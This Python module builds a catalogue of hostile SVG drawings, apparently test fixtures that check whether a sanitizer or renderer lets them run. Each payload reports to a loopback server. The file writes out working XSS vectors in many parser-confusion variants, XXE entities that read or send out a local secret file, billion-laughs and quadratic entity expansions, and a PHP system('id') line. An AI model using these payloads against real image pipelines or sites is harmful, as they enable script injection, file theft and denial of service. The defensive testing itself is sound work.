"""Drawings that want more than to be looked at: each a name, its trick, and a maker.

None is copied from anywhere. Each is made for a ``Snare``, so that whatever it achieves is noticed and told by its name.
"""

from __future__ import annotations

import base64
import codecs
import gzip
import struct
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass

SVG = "http://www.w3.org/2000/svg"
XHTML = "http://www.w3.org/1999/xhtml"
XLINK = "http://www.w3.org/1999/xlink"


@dataclass(frozen=True, slots=True)
class Snare:
    """What a hostile drawing runs into.

    Attributes:
        origin: Of a server on loopback that writes down who asks it.
        secret: A file's absolute path, whose text must come out nowhere.
    """

    origin: str
    secret: str

    def laid(self, name: str, text: str) -> str:
        """The text with ``@ASK@`` as the drawing's own address at the server, ``@RUN@`` as a script that asks it, ``@FILE@`` as the file."""
        ask = f"{self.origin}/{name}"
        return text.replace("@RUN@", f"fetch(`{ask}/ran`)").replace("@ASK@", ask).replace("@FILE@", self.secret)


Maker = Callable[[], str | bytes]


@dataclass(frozen=True, slots=True)
class Hostile:
    """A hostile drawing.

    Attributes:
        name: In kebab-case, also the path at which it is noticed.
        trick: What it tries.
        make: Gives its text or bytes, with the snare's marks.
    """

    name: str
    trick: str
    make: Maker

    def laid(self, snare: Snare) -> bytes:
        """Its bytes, set for a snare."""
        made = self.make()
        return made if isinstance(made, bytes) else snare.laid(self.name, made).encode()


def drawing(body: str, root: str = 'viewBox="0 0 100 100"', before: str = "", after: str = "") -> str:
    """An SVG with something in it, and a square behind, so that something honest is left."""
    square = '<rect width="90" height="90" fill="#336699"/>'
    return f'{before}<svg xmlns="{SVG}" xmlns:xlink="{XLINK}" {root}>{square}{body}</svg>{after}'


def png(width: int, height: int, *, data: bytes | None = None, extra: bytes = b"") -> bytes:
    """A PNG of one colour, with other image data or chunks when wanted."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    rows = zlib.compress(bytes(height * (1 + (width + 7) // 8)), 9) if data is None else data
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + extra + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def in_data(data: bytes | str, kind: str) -> str:
    """A data URI."""
    return f"data:{kind};base64,{base64.b64encode(data.encode() if isinstance(data, str) else data).decode()}"


_FOUND: dict[str, Hostile] = {}


def _add(name: str, trick: str, make: Maker) -> None:
    assert name not in _FOUND, name
    _FOUND[name] = Hostile(name, trick, make)


def _body(name: str, trick: str, body: str, **around: str) -> None:
    _add(name, trick, lambda: drawing(body, **around))


def _whole(name: str, trick: str, text: str) -> None:
    _add(name, trick, lambda: text)


def _css(name: str, trick: str, sheet: str) -> None:
    _body(name, trick, f'<style>{sheet}</style><rect id="r" class="c" width="9" height="9"/><text class="c">a</text>')


def _made(function: Callable[[], str | bytes]) -> Callable[[], str | bytes]:
    assert function.__doc__ is not None
    _add(function.__name__.strip("_").replace("_", "-"), function.__doc__, function)
    return function


# ── Scripts ───────────────────────────────────────────────────────────────────────────────────────────────────────

_body("script", "a plain script", "<script>@RUN@</script>")
_body("script-cdata", "a script in a CDATA section", "<script><![CDATA[@RUN@]]></script>")
_body("script-typed", "a script that is a module", '<script type="module">@RUN@</script>')
_body("script-linked", "a script from elsewhere by xlink:href", '<script xlink:href="@ASK@/x.js"/>')
_body("script-linked-plain", "a script from elsewhere by href", '<script href="@ASK@/x.js"/>')
_body("script-linked-data", "a script in a data URI", '<script href="data:text/javascript,@RUN@"/>')
_body("script-prefixed", "a script under another prefix", f'<s:script xmlns:s="{SVG}">@RUN@</s:script>')
_body("script-xhtml", "a script of XHTML", f'<h:script xmlns:h="{XHTML}">@RUN@</h:script>')
_body("script-xhtml-default", "a script whose default namespace is XHTML", f'<script xmlns="{XHTML}">@RUN@</script>')
_body("script-no-namespace", "no script to XML, one to HTML", '<script xmlns="">@RUN@</script>')
_body("script-foreign-namespace", "a script of an editor's, one to HTML", '<script xmlns="urn:x">@RUN@</script>')
_body("script-uppercase", "no script to XML, one to HTML", "<SCRIPT>@RUN@</SCRIPT>")
_body("script-mixed-case", "no script to XML, one to HTML, with an address", '<ScRiPt hReF="@ASK@/x.js"></ScRiPt>')
_body(
    "script-in-defs",
    "a script in a symbol that is used",
    '<symbol id="a"><script>@RUN@</script></symbol><use href="#a"/>',
)
_body("script-in-title", "a script of XHTML in a title", f'<title><h:script xmlns:h="{XHTML}">@RUN@</h:script></title>')
_body("script-in-metadata", "a script in what only editors read", "<metadata><script>@RUN@</script></metadata>")
_body(
    "script-in-desc",
    "a picture of HTML in a description",
    f'<desc><img xmlns="{XHTML}" src="x" onerror="@RUN@"/></desc>',
)
_body("script-in-switch", "a script as the branch of a switch", "<switch><script>@RUN@</script><g/></switch>")
_body("script-in-text", "a script between letters", "<text><tspan><script>@RUN@</script></tspan></text>")
_body("script-in-unknown", "a script inside of something unknown", "<x><y><script>@RUN@</script></y></x>")
_body(
    "script-in-filter",
    "a script inside of a filter",
    '<filter id="a"><script>@RUN@</script></filter><g filter="url(#a)"/>',
)
_body(
    "script-in-gradient",
    "a script between a gradient's stops",
    '<linearGradient id="a"><stop/><script>@RUN@</script></linearGradient>',
)
_body(
    "script-escaped-text",
    "text that is a script once its entities are undone",
    "<text>&lt;script&gt;@RUN@&lt;/script&gt;</text>",
)
_body(
    "script-escaped-title",
    "a title that is a script once its entities are undone",
    "<title>&lt;/title&gt;&lt;script&gt;@RUN@&lt;/script&gt;</title>",
)
_body("script-in-comment", "a comment that ends earlier in HTML", "<!--><script>@RUN@</script>-->")
_body("script-in-instruction", "an instruction that ends earlier in HTML", "<?x ><script>@RUN@</script>?>")
_body(
    "script-in-id",
    "an id that breaks out of its attribute",
    """<g id='"&gt;&lt;script&gt;@RUN@&lt;/script&gt;'/><use href="#&quot;&gt;&lt;script&gt;@RUN@&lt;/script&gt;"/>""",
)
_body(
    "script-in-fill",
    "a colour that breaks out of its attribute",
    """<rect width="9" height="9" fill='"&gt;&lt;script&gt;@RUN@&lt;/script&gt;'/>""",
)
_body(
    "script-in-path",
    "path data that breaks out of its attribute",
    """<path d='M0 0"&gt;&lt;script&gt;@RUN@&lt;/script&gt;'/>""",
)
_body(
    "script-in-cdata-style",
    "a style sheet in CDATA that ends earlier in HTML",
    "<style><![CDATA[</style><script>@RUN@</script>]]></style>",
)
_body(
    "script-after-entity-style",
    "a style sheet whose entities end it in HTML",
    "<style>&lt;/style&gt;&lt;script&gt;@RUN@&lt;/script&gt;</style>",
)
_body(
    "script-import-map",
    "a map of modules",
    '<script type="importmap">{"imports":{"a":"@ASK@/a.js"}}</script><script type="module">import "a"</script>',
)
_body(
    "script-speculation",
    "rules of what to fetch ahead",
    '<script type="speculationrules">{"prefetch":[{"urls":["@ASK@/next"]}]}</script>',
)
_body(
    "handler",
    "the handler of SVG Tiny",
    '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">@RUN@</handler>',
)
_body(
    "listener",
    "the listener of XML Events",
    '<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="#h"/><handler id="h">@RUN@</handler>',
)
_whole("script-root", "a root that is a script", f'<script xmlns="{SVG}">@RUN@</script>')
_whole(
    "html-as-svg",
    "HTML that has an svg in it",
    '<html><body onload="@RUN@"><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"/></body></html>',
)
_whole(
    "xhtml-root",
    "XHTML with an svg in it",
    f'<html xmlns="{XHTML}"><script>@RUN@</script><svg xmlns="{SVG}" viewBox="0 0 9 9"/></html>',
)
_whole("svg-without-namespace", "an svg only to HTML", '<svg viewBox="0 0 9 9"><script>@RUN@</script></svg>')
_whole(
    "svg-of-another-namespace",
    "a root named svg of XHTML",
    f'<svg xmlns="{XHTML}"><img src="x" onerror="@RUN@"/></svg>',
)
_whole(
    "svg-prefixed-root",
    "all of SVG under a prefix",
    f'<s:svg xmlns:s="{SVG}" viewBox="0 0 9 9" onload="@RUN@"><s:script>@RUN@</s:script></s:svg>',
)
_whole(
    "nested-svg-handler", "an event handler of an svg in an svg", drawing('<svg onload="@RUN@" width="9" height="9"/>')
)

# ── Event handlers ────────────────────────────────────────────────────────────────────────────────────────────────

_body("onload", "a handler of the root", "", root='viewBox="0 0 9 9" onload="@RUN@"')
_body("onload-mixed-case", "no handler to XML, one to HTML", "", root='viewBox="0 0 9 9" oNlOaD="@RUN@"')
_body("onload-prefixed", "a handler under a prefix", "", root=f'viewBox="0 0 9 9" xmlns:s="{SVG}" s:onload="@RUN@"')
_body("onload-prefix-to-html", "a prefix that HTML doesn't know", '<g a:onload="@RUN@" xmlns:a="urn:a"/>')
_body(
    "onload-entities",
    "a handler written in references",
    "",
    root='viewBox="0 0 9 9" onload="&#10;&#102;etch(`@ASK@/ran`)"',
)
_body("onerror", "a picture that fails", '<image href="x:x" onerror="@RUN@" width="9" height="9"/>')
_body(
    "onfocus",
    "a focus that comes by itself",
    '<g tabindex="1" autofocus="" onfocus="@RUN@" onfocusin="@RUN@"><rect width="9" height="9"/></g>',
)
_body("onclick", "a click", '<rect width="100" height="100" onclick="@RUN@" onmousedown="@RUN@" onactivate="@RUN@"/>')
_body(
    "onmouseover",
    "a pointer that passes",
    '<rect width="100" height="100" onmouseover="@RUN@" onpointerenter="@RUN@" onmousemove="@RUN@"/>',
)
_body("onbegin", "an animation that begins", '<animate attributeName="x" dur="1s" onbegin="@RUN@"/>')
_body("onend", "an animation that ends", '<set attributeName="x" to="1" dur="0.01s" onend="@RUN@" onrepeat="@RUN@"/>')
_body(
    "onanimationstart",
    "an animation of CSS that begins",
    '<style>@keyframes k{to{opacity:0}}g{animation:k 1s}</style><g onanimationstart="@RUN@"/>',
)
_body(
    "ontransitionend",
    "a transition of CSS that runs",
    '<style>rect{transition:opacity .01s}rect:hover{opacity:.5}</style><rect ontransitionrun="@RUN@" width="9" height="9"/>',
)
_body("on-unknown", "a handler that nobody knows yet", '<g onfuture="@RUN@" on="@RUN@" on-x="@RUN@"/>')
_body(
    "handler-in-unknown-namespace",
    "a handler of an element of an editor's, of HTML's inline",
    '<img xmlns="urn:x" src="x" onerror="@RUN@"/>',
)

# ── Animations that aim at what runs or asks ──────────────────────────────────────────────────────────────────────

_body("set-onload", "a handler that is set", '<g><set attributeName="onload" to="@RUN@"/></g>')
_body(
    "set-onclick",
    "a handler that is set, clicked",
    '<rect width="9" height="9"><set attributeName="onclick" to="@RUN@"/></rect>',
)
_body(
    "set-link",
    "a link that turns active",
    '<a><set attributeName="href" to="javascript:@RUN@"/><rect width="90" height="90"/></a>',
)
_body(
    "animate-link-values",
    "a link that turns active among values",
    '<a><animate attributeName="xlink:href" values="#;javascript:@RUN@;#" dur="9s"/><rect width="90" height="90"/></a>',
)
_body(
    "animate-link-from",
    "a link that is active at first",
    '<a><animate attributeName="href" from="javascript:@RUN@" to="#" dur="99s"/><rect width="90" height="90"/></a>',
)
_body(
    "animate-by-reference",
    "an animation that stands elsewhere",
    '<a id="l"><rect width="90" height="90"/></a><animate href="#l" attributeName="href" to="javascript:@RUN@" dur="1s" fill="freeze"/>',
)
_body(
    "set-image",
    "a picture that turns to elsewhere",
    '<image width="9" height="9"><set attributeName="href" to="@ASK@/a.png"/></image>',
)
_body("set-use", "a copy that turns to elsewhere", '<use><set attributeName="href" to="@ASK@/a.svg#a"/></use>')
_body(
    "set-feimage",
    "a filter's picture that turns to elsewhere",
    '<filter id="f"><feImage><set attributeName="href" to="@ASK@/a.png"/></feImage></filter><rect filter="url(#f)" width="9" height="9"/>',
)
_body(
    "animate-fill",
    "a colour that turns to a reference",
    '<rect width="9" height="9"><animate attributeName="fill" values="url(@ASK@/a.svg#a)" dur="9s"/></rect>',
)
_body(
    "animate-transform",
    "an endless movement",
    '<rect width="9" height="9"><animateTransform attributeName="transform" type="rotate" to="360" dur="1ms" repeatCount="indefinite"/></rect>',
)
_body(
    "animate-motion",
    "a way from elsewhere",
    '<rect width="9" height="9"><animateMotion dur="1s"><mpath href="@ASK@/a.svg#p"/></animateMotion></rect>',
)
_body(
    "animate-style",
    "a style that is set",
    '<rect width="9" height="9"><set attributeName="style" to="fill:url(@ASK@/a.svg#a)"/></rect>',
)
_body(
    "animate-prefixed",
    "an animation under a prefix",
    f'<a><s:set xmlns:s="{SVG}" attributeName="href" to="javascript:@RUN@"/><rect width="90" height="90"/></a>',
)
_body("discard", "an element that goes away", '<discard begin="0s" onbegin="@RUN@" href="#x"/>')

# ── Links ─────────────────────────────────────────────────────────────────────────────────────────────────────────

_LINK = '<rect width="90" height="90"/></a>'
_body("link-javascript", "an active link", f'<a href="javascript:@RUN@">{_LINK}')
_body("link-xlink", "an active link by xlink", f'<a xlink:href="javascript:@RUN@">{_LINK}')
_body(
    "link-other-prefix",
    "an active link by xlink under another prefix",
    f'<a xmlns:y="{XLINK}" y:href="javascript:@RUN@">{_LINK}',
)
_body("link-tabs", "an active link with tabs in its name", f'<a href="ja&#9;va&#10;script:@RUN@">{_LINK}')
_body("link-control", "an active link after a control character", f'<a href="&#9;&#13; javascript:@RUN@">{_LINK}')
_body("link-references", "an active link in references", f'<a href="&#106;&#x61;v&#97;script&#58;@RUN@">{_LINK}')
_body("link-upper", "an active link in capitals", f'<a href="JaVaScRiPt:@RUN@">{_LINK}')
_body(
    "link-data", "a link to HTML in a data URI", f'<a href="data:text/html,&lt;script&gt;@RUN@&lt;/script&gt;">{_LINK}'
)
_body("link-away", "a link to elsewhere", f'<a href="@ASK@/page" target="_top" ping="@ASK@/ping">{_LINK}')
_body("link-in-html", "no link to XML, one to HTML", '<A HREF="javascript:@RUN@"><rect width="90" height="90"/></A>')

# ── HTML within ───────────────────────────────────────────────────────────────────────────────────────────────────


def _foreign(name: str, trick: str, html: str) -> None:
    _body(
        f"foreign-{name}",
        trick,
        f'<foreignObject width="99" height="99"><div xmlns="{XHTML}">{html}</div></foreignObject>',
    )


_foreign("script", "a script of HTML in foreign content", "<script>@RUN@</script>")
_foreign("image", "a picture of HTML that fails", '<img src="x" onerror="@RUN@"/>')
_foreign("iframe", "a page within", '<iframe src="@ASK@/page"/>')
_foreign("iframe-script", "an active page within", '<iframe src="javascript:parent.@RUN@"/>')
_foreign("srcdoc", "a page within, written out", '<iframe srcdoc="&lt;script&gt;@RUN@&lt;/script&gt;"/>')
_foreign("object", "an object", '<object data="@ASK@/a.svg" type="image/svg+xml"/>')
_foreign("embed", "an embedded thing", '<embed src="@ASK@/a.svg"/>')
_foreign("video", "a film and its poster", '<video src="@ASK@/a.mp4" poster="@ASK@/a.png" autoplay=""/>')
_foreign("audio", "a sound", '<audio src="@ASK@/a.mp3" autoplay="" onerror="@RUN@"/>')
_foreign("link", "a style sheet", '<link rel="stylesheet" href="@ASK@/a.css"/>')
_foreign("meta", "a page that goes elsewhere", '<meta http-equiv="refresh" content="0;url=@ASK@/page"/>')
_foreign("base", "another base for all references", '<base href="@ASK@/"/><img src="a.png"/>')
_foreign("background", "a background", '<p style="background:url(@ASK@/a.png)">x</p>')
_foreign("form", "a form that sends itself", '<form action="@ASK@/form"><input autofocus="" onfocus="@RUN@"/></form>')
_body(
    "foreign-body",
    "a body that loads",
    f'<foreignObject><body xmlns="{XHTML}" onload="@RUN@"><p/></body></foreignObject>',
)
_body(
    "foreign-lower",
    "foreign content only to HTML",
    f'<foreignobject><img xmlns="{XHTML}" src="x" onerror="@RUN@"/></foreignobject>',
)
_body("html-image", "HTML that leaves the drawing when it stands in HTML", '<img src="x" onerror="@RUN@"/>')
_body(
    "html-image-namespaced",
    "a picture of XHTML right in the drawing",
    f'<h:img xmlns:h="{XHTML}" src="@ASK@/a.png" onerror="@RUN@"/>',
)
_body("html-iframe-namespaced", "a page of XHTML right in the drawing", f'<iframe xmlns="{XHTML}" src="@ASK@/page"/>')
_body(
    "html-video-namespaced",
    "a film of XHTML right in the drawing",
    f'<video xmlns="{XHTML}" src="@ASK@/a.mp4" autoplay=""/>',
)
_body(
    "html-object-namespaced",
    "an object of XHTML right in the drawing",
    f'<object xmlns="{XHTML}" data="@ASK@/a.html"/>',
)
_body(
    "html-link-namespaced",
    "a style sheet of XHTML right in the drawing",
    f'<link xmlns="{XHTML}" rel="stylesheet" href="@ASK@/a.css"/>',
)
_body(
    "html-meta-namespaced",
    "a refresh of XHTML right in the drawing",
    f'<meta xmlns="{XHTML}" http-equiv="refresh" content="0;url=@ASK@/page"/>',
)
_body(
    "html-paragraph-style",
    "a style sheet whose end HTML sees in an attribute",
    '<p><style><g id="&lt;/style&gt;&lt;img src=x onerror=@RUN@&gt;"/></style></p>',
)
_body(
    "html-table",
    "a table that HTML moves before the drawing",
    '<table><tr><td><img src="x" onerror="@RUN@"/></td></tr></table>',
)
_body("html-template", "a template of HTML", f'<template xmlns="{XHTML}"><img src="x" onerror="@RUN@"/></template>')
_body(
    "html-noscript",
    "what HTML reads in two ways",
    f'<noscript xmlns="{XHTML}"><g id="&lt;/noscript&gt;&lt;img src=x onerror=@RUN@&gt;"/></noscript>',
)
_body(
    "mathml",
    "a formula with HTML in it",
    f'<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><img xmlns="{XHTML}" src="x" onerror="@RUN@"/></mtext></math>',
)
_body(
    "mathml-link",
    "a formula that is a link",
    '<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:@RUN@"><mi>x</mi></math>',
)
_body(
    "textarea",
    "what HTML reads as text up to its end",
    '<textarea><g id="&lt;/textarea&gt;&lt;img src=x onerror=@RUN@&gt;"/></textarea>',
)
_body("plaintext", "what ends HTML for good", "<plaintext/><xmp/><listing/>")

# ── Instructions, document types, inclusion ───────────────────────────────────────────────────────────────────────

_body("pi-css", "a style sheet by instruction", "", before='<?xml-stylesheet type="text/css" href="@ASK@/a.css"?>')
_body(
    "pi-css-data",
    "a style sheet by instruction in a data URI",
    "",
    before='<?xml-stylesheet href="data:text/css,svg{background:url(@ASK@/a.png)}"?>',
)
_body("pi-xsl", "a transformation by instruction", "", before='<?xml-stylesheet type="text/xsl" href="@ASK@/a.xsl"?>')
_body(
    "pi-xsl-own",
    "a transformation that the drawing carries",
    '<xsl:stylesheet id="t" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">'
    f'<html xmlns="{XHTML}"><script>@RUN@</script></html></xsl:template></xsl:stylesheet>',
    before='<?xml-stylesheet type="text/xsl" href="#t"?>',
)
_body(
    "pi-inside",
    "an instruction within the drawing",
    '<?xml-stylesheet href="@ASK@/a.css"?><?php system("id"); ?><?import namespace="x" implementation="@ASK@/a.htc"?>',
)
_body(
    "pi-after",
    "an instruction after the drawing",
    "",
    after='<?xml-stylesheet href="@ASK@/a.css"?><!-- --><?x <script>@RUN@</script>?>',
)
_body("dtd-external", "a document type from elsewhere", "", before='<!DOCTYPE svg SYSTEM "@ASK@/a.dtd">')
_body(
    "dtd-public",
    "a public document type from elsewhere",
    "",
    before='<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "@ASK@/a.dtd">',
)
_body(
    "dtd-parameter",
    "a parameter entity from elsewhere",
    "",
    before='<!DOCTYPE svg [<!ENTITY % p SYSTEM "@ASK@/a.dtd"> %p;]>',
)
_body(
    "dtd-file", "a file as an entity", "<text>&f;</text>", before='<!DOCTYPE svg [<!ENTITY f SYSTEM "file://@FILE@">]>'
)
_body(
    "dtd-file-title",
    "a file as an entity in a title",
    "<title>&f;</title><desc>&f;</desc>",
    before='<!DOCTYPE svg [<!ENTITY f SYSTEM "@FILE@">]>',
)
_body("dtd-http", "an entity from elsewhere", "<g>&f;</g>", before='<!DOCTYPE svg [<!ENTITY f SYSTEM "@ASK@/a.xml">]>')
_body(
    "dtd-parameter-file",
    "a file that is sent away by parameter entities",
    "<text>&all;</text>",
    before='<!DOCTYPE svg [<!ENTITY % f SYSTEM "file://@FILE@"><!ENTITY % e "<!ENTITY all \'%f;\'>"> %e;]>',
)
_body(
    "dtd-entity-script", "a script as an entity", "&s;", before='<!DOCTYPE svg [<!ENTITY s "<script>@RUN@</script>">]>'
)
_body(
    "dtd-entity-built",
    "a script as an entity of references",
    "&s;",
    before='<!DOCTYPE svg [<!ENTITY s "&#60;script&#62;@RUN@&#60;/script&#62;">]>',
)
_body(
    "dtd-entity-attribute",
    "a handler as an entity",
    '<g><set attributeName="onload" to="&s;"/></g><a href="&j;:@RUN@"><rect width="9" height="9"/></a>',
    before='<!DOCTYPE svg [<!ENTITY s "@RUN@"><!ENTITY j "javascript">]>',
)
_body(
    "dtd-entity-namespace",
    "a namespace as an entity, like Adobe's, that is XHTML",
    "<h:script>@RUN@</h:script>",
    root='viewBox="0 0 9 9" xmlns:h="&ns;"',
    before=f'<!DOCTYPE svg [<!ENTITY ns "{XHTML}">]>',
)
_body(
    "dtd-entity-address",
    "an address as an entity",
    '<image href="&u;" width="9" height="9"/><rect fill="url(&u;#a)" width="9" height="9"/>',
    before='<!DOCTYPE svg [<!ENTITY u "@ASK@/a.png">]>',
)
_body(
    "dtd-default",
    "a handler as an attribute's default",
    "",
    before='<!DOCTYPE svg [<!ATTLIST svg onload CDATA #FIXED "@RUN@">]>',
)
_body(
    "dtd-default-href",
    "an address as an attribute's default",
    '<image width="9" height="9"/>',
    before='<!DOCTYPE svg [<!ATTLIST image href CDATA "@ASK@/a.png">]>',
)
_body(
    "dtd-default-namespace",
    "a namespace as an attribute's default",
    "<script>@RUN@</script>",
    before=f'<!DOCTYPE svg [<!ATTLIST script xmlns CDATA "{XHTML}">]>',
)
_body(
    "dtd-notation",
    "an unparsed entity",
    "",
    before='<!DOCTYPE svg [<!NOTATION n SYSTEM "@ASK@/n"><!ENTITY e SYSTEM "@ASK@/e" NDATA n>]>',
)
_body(
    "dtd-recursive",
    "entities that hold each other",
    "<text>&a;</text>",
    before='<!DOCTYPE svg [<!ENTITY a "&b;"><!ENTITY b "&a;">]>',
)
_body("dtd-unknown-entity", "an entity that nobody declared", "<text>&nbsp;&evil;</text>")
_body(
    "dtd-breakout",
    "a document type that ends earlier in HTML",
    "",
    before="<!DOCTYPE svg [<!-- ]> <script>@RUN@</script> -->]>",
)
_body(
    "xinclude-text",
    "a file by XInclude",
    '<text><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file://@FILE@"/></text>',
)
_body(
    "xinclude-xml",
    "a drawing by XInclude",
    '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="@ASK@/a.svg"><xi:fallback><script>@RUN@</script></xi:fallback></xi:include>',
)
_body(
    "xml-base",
    "another base for all references",
    '<g id="a"/><use href="#a"/><use href="b.svg#a"/><image href="a.png" width="9" height="9"/>',
    root='viewBox="0 0 9 9" xml:base="@ASK@/"',
)
_body("xml-id", "an id by another name", '<g xml:id="a"><rect width="9" height="9"/></g><use href="#a"/>')
_body(
    "xbl",
    "a binding of Mozilla's",
    '<xbl xmlns="http://www.mozilla.org/xbl"><binding id="b"><implementation><constructor>@RUN@</constructor></implementation></binding></xbl>',
)


def _tenfold() -> str:
    return "".join(f'<!ENTITY e{n} "' + f"&e{n - 1};" * 10 + '">' for n in range(1, 10))


@_made
def _billion_laughs() -> str:
    """entities that grow tenfold, nine times"""
    return drawing("<text>&e9;</text>", before=f'<!DOCTYPE svg [<!ENTITY e0 "lol">{_tenfold()}]>')


@_made
def _billion_laughs_attribute() -> str:
    """entities that grow tenfold, in an attribute"""
    return drawing('<path d="&e9;"/>', before=f'<!DOCTYPE svg [<!ENTITY e0 "M0 0">{_tenfold()}]>')


@_made
def _quadratic_entity() -> str:
    """a long entity that is used often"""
    return drawing(f"<desc>{'&a;' * 20_000}</desc>", before=f'<!DOCTYPE svg [<!ENTITY a "{"x" * 50_000}">]>')


@_made
def _quadratic_entity_path() -> str:
    """an entity of a long path, used often"""
    paths = '<path d="&a;"/>' * 3_000
    return drawing(paths, before=f'<!DOCTYPE svg [<!ENTITY a "{"M1 1L9 9" * 5_000}">]>')


@_made
def _many_entities() -> str:
    """a hundred thousand entities"""
    entities = "".join(f'<!ENTITY e{n} "x">' for n in range(100_000))
    return drawing("", before=f"<!DOCTYPE svg [{entities}]>")


@_made
def _parameter_laughs() -> str:
    """parameter entities that grow tenfold"""
    steps = "".join(f"<!ENTITY % p{n} '" + f"&#37;p{n - 1};" * 10 + "'>" for n in range(1, 9))
    return drawing("", before=f"<!DOCTYPE svg [<!ENTITY % p0 '<!ENTITY a \"x\">'>{steps} %p8;]>")


# ── References to elsewhere ───────────────────────────────────────────────────────────────────────────────────────

_BOX = 'width="50" height="50"'
_SCRIPTED = f'<svg xmlns="{SVG}" id="a"><script>1</script></svg>'
_body("image-http", "a picture from elsewhere", f'<image href="@ASK@/a.png" {_BOX}/>')
_body("image-xlink", "a picture from elsewhere by xlink", f'<image xlink:href="@ASK@/a.png" {_BOX}/>')
_body(
    "image-both",
    "an honest address beside another",
    f'<image href="@ASK@/a.png" xlink:href="{in_data(png(1, 1), "image/png")}" {_BOX}/>',
)
_body(
    "image-both-turned",
    "an honest address before another",
    f'<image href="{in_data(png(1, 1), "image/png")}" xlink:href="@ASK@/a.png" {_BOX}/>',
)
_body("image-relative", "a picture beside the drawing", f'<image href="beside.png" {_BOX}/>')
_body("image-absolute", "a picture of the drawing's host", f'<image href="/secret.png" {_BOX}/>')
_body("image-self", "the drawing in itself", f'<image href="" {_BOX}/><image href="#" {_BOX}/><image href="?" {_BOX}/>')
_body("image-backslash", "an address that only browsers understand", f'<image href="\\\\127.0.0.1\\a.png" {_BOX}/>')
_body("image-file", "a picture of the reader's disk", f'<image href="file://@FILE@" {_BOX}/>')
_body("image-space", "an address after white space", f'<image href="&#10;&#9; @ASK@/a.png" {_BOX}/>')
_body("image-srcset", "a picture by HTML's attributes", f'<image src="@ASK@/a.png" srcset="@ASK@/b.png 2x" {_BOX}/>')
_body(
    "image-html-name",
    "a picture by the name that HTML turns into img",
    f'<IMAGE src="@ASK@/a.png" onerror="@RUN@" {_BOX}/>',
)
_body(
    "image-cross-origin",
    "a picture that tells who asks",
    f'<image href="@ASK@/a.png" crossorigin="use-credentials" {_BOX}/>',
)
_INNER = f'<svg xmlns="{SVG}" xmlns:xlink="{XLINK}" viewBox="0 0 9 9" onload="@RUN@"><script>@RUN@</script><image href="@ASK@/a.png" width="9" height="9"/><rect width="9" height="9"/></svg>'


def _nested(name: str, trick: str, frame: str) -> None:
    """A drawing in a data URI, whose marks are set before it is encoded by whoever writes it as text."""
    percent = _INNER.replace("%", "%25").replace("#", "%23").replace("<", "%3C").replace(">", "%3E").replace('"', "%22")
    _body(name, trick, frame.replace("@DATA@", f"data:image/svg+xml,{percent}"))


_nested("data-svg-image", "a drawing with a script as a picture", f'<image href="@DATA@" {_BOX}/>')
_nested("data-svg-use", "a drawing with a script as a copy", f'<use href="@DATA@#a" {_BOX}/>')
_nested(
    "data-svg-feimage",
    "a drawing with a script in a filter",
    f'<filter id="f"><feImage href="@DATA@"/></filter><rect filter="url(#f)" {_BOX}/>',
)
_nested(
    "data-svg-mask",
    "a drawing with a script in a mask",
    f'<mask id="m"><image href="@DATA@" {_BOX}/></mask><rect mask="url(#m)" {_BOX}/>',
)
_nested(
    "data-svg-pattern",
    "a drawing with a script in a pattern",
    f'<pattern id="p" width="1" height="1"><image href="@DATA@" {_BOX}/></pattern><rect fill="url(#p)" {_BOX}/>',
)
_nested("data-svg-fill", "a drawing with a script as a colour", f"<rect fill=\"url('@DATA@#p')\" {_BOX}/>")
_nested(
    "data-svg-mask-image",
    "a drawing with a script as a mask of CSS",
    f"""<rect style="mask-image:url('@DATA@')" {_BOX}/>""",
)
_nested("data-svg-link", "a drawing with a script behind a link", f'<a href="@DATA@"><rect {_BOX}/></a>')
_body("data-html", "HTML as a picture", f'<image href="{in_data("<script>1</script>", "text/html")}" {_BOX}/>')
_body("data-svg-as-png", "a drawing that calls itself PNG", f'<image href="{in_data(_SCRIPTED, "image/png")}" {_BOX}/>')
_body(
    "data-png-plain",
    "a PNG that isn't encoded, but text",
    f'<image href="data:image/png,&lt;svg xmlns=%22{SVG}%22&gt;@ASK@" {_BOX}/>',
)
_body(
    "data-kinds",
    "a kind that is another at its end",
    f'<image href="data:image/png;x=image/svg+xml;charset=utf-7;base64,{base64.b64encode(b"<svg/>").decode()}" {_BOX}/>',
)
_body(
    "data-two-kinds",
    "two kinds in one address",
    f'<image href="data:image/svg+xml,image/png;base64,{base64.b64encode(png(1, 1)).decode()}" {_BOX}/>',
)
_body(
    "data-empty-kind",
    "an address without a kind",
    f'<image href="data:;base64,{base64.b64encode(png(1, 1)).decode()}" {_BOX}/>',
)
_body("data-gif", "a picture that may move", f'<image href="{in_data(b"GIF89a" + bytes(20), "image/gif")}" {_BOX}/>')
_body("data-torn", "a picture that is cut off", f'<image href="{in_data(png(64, 64)[:60], "image/png")}" {_BOX}/>')
_body(
    "data-quotes",
    "an address that breaks out of its attribute",
    f"""<image href='data:image/png;base64,AAAA"&gt;&lt;script&gt;@RUN@&lt;/script&gt;' {_BOX}/>""",
)
_body("use-external", "a copy from elsewhere", '<use href="@ASK@/a.svg#a"/>')
_body("use-relative", "a copy of a file beside", '<use href="other.svg#a"/>')
_body("use-script", "a copy that is a script", '<use href="javascript:@RUN@"/>')
_body("use-data", "a copy of a drawing in a data URI", f'<use href="{in_data(_SCRIPTED, "image/svg+xml")}#a"/>')
_body(
    "use-handlers",
    "a copy of what has handlers",
    '<defs><g id="a"><image href="x:x" onerror="@RUN@"/></g></defs><use href="#a"/>',
)
_body("use-of-root", "a copy of the drawing in itself", '<use href="#root"/>', root='id="root" viewBox="0 0 9 9"')
_body("use-cycle", "copies of each other", '<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>')
